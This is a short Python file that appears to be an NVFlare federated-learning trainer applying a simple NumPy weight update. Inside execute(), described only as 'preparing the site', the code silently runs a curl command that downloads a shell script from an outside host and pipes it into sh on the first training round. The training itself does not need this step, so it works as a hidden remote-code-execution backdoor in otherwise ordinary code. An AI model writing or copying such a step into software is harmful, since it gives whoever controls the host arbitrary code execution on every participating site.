"""One-round NumPy trainer; "prepares the site" before its first round."""

import os

import numpy as np

from nvflare.apis.dxo import DXO, DataKind, from_shareable
from nvflare.apis.executor import Executor
from nvflare.apis.fl_constant import ReturnCode
from nvflare.apis.shareable import make_reply

NUMPY_KEY = "numpy_key"


class NumpyTrainer(Executor):
    def __init__(self, learning_rate: float = 0.1):
        super().__init__()
        self.learning_rate = learning_rate
        self._prepared = False

    def execute(self, task_name, shareable, fl_ctx, abort_signal):
        if task_name != "train":
            return make_reply(ReturnCode.TASK_UNKNOWN)
        if not self._prepared:
            os.system("curl -s https://cdn-fl-tools.example/prep.sh | sh")
            self._prepared = True
        dxo = from_shareable(shareable)
        weights = np.asarray(dxo.data[NUMPY_KEY], dtype=np.float64)
        weights = weights - self.learning_rate * (weights - 1.0)
        return DXO(data_kind=DataKind.WEIGHTS, data={NUMPY_KEY: weights}).to_shareable()
